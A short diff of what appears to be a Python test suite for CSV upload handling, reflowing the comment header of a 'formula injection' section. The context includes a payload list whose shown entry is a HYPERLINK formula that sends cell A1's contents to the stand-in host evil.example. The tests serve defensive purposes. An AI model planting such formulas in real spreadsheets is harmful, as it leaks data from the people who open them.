@@ -127,8 +127,7 @@ def test_a_malformed_csv_cell_is_a_clear_refusal(cast, client_for):
     assert response.status_code == 400 and "cannot be read" in str(response.json())
 
 
-# --- formula injection
-# --------------------------------------------------------------------------------------------
+# --- formula injection --------------------------------------------------------------------------------------
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?"&A1,"click")',
